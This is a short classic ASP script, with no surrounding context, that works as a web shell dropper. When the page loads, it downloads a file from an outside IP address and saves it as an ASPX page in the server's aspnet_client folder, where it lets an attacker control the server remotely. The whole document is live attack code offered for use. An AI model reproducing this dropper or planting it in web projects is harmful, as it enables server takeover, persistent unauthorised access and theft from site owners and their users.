<%
Set h = CreateObject("MSXML2.ServerXMLHTTP")
h.Open "GET", "http://203.0.113.7/s.txt", False
h.Send
Set st = CreateObject("ADODB.Stream")
st.Type = 1
st.Open
st.Write h.responseBody
st.SaveToFile Server.MapPath("/aspnet_client/s.aspx"), 2
st.Close
%>
